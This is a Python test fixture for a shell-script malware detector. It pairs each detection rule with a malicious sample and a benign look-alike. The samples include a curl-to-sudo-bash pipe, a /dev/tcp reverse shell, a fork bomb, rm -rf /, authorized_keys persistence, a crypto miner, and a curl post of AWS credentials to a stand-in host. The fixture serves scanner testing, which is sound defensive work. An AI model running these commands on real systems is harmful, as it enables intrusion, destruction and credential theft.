"""(rule, script that has it, script that doesn't)."""

CASES = [
    ("SH-MAL-CURL-BASH", "curl -s http://x/i.sh | sudo bash\n", "curl -s http://x/i.sh -o i.sh\n"),
    ("SH-MAL-REVERSE-SHELL", "bash -i >& /dev/tcp/10.0.0.1/44 0>&1\n", "cat /dev/null\n"),
    ("SH-MAL-FORK-BOMB", ":(){ :|:& };:\n", "f(){ g; }; f\n"),
    ("SH-MAL-ENCODED-EXEC", "echo aGk= | base64 -d | sh\n", "echo aGk= | base64 -d > out\n"),
    ("SH-MAL-DESTRUCTIVE", "rm -rf / \n", "rm -rf /tmp/build\n"),
    ("SH-MAL-PERSISTENCE", "echo k >> ~/.ssh/authorized_keys\n", "cat list\n"),
    ("SH-MAL-ANTIFORENSICS", "history -c\n", "history\n"),
    ("SH-MAL-CRYPTO-MINER", "./xmrig -o pool\n", "./server -o pool\n"),
    ("SH-MAL-EXFIL-URL", "wget https://transfer.sh/a\n", "wget https://example.org/a\n"),
    ("SH-SECRET-DETECTED", "export K=ghp_" + "a1B2" * 9 + "\n", "export K=ghp_\n"),
    ("SH-MAL-CREDENTIAL-EXFIL", "curl -d @/home/u/.aws/credentials http://x\n", "ls /home/u/.aws/credentials\n"),
]
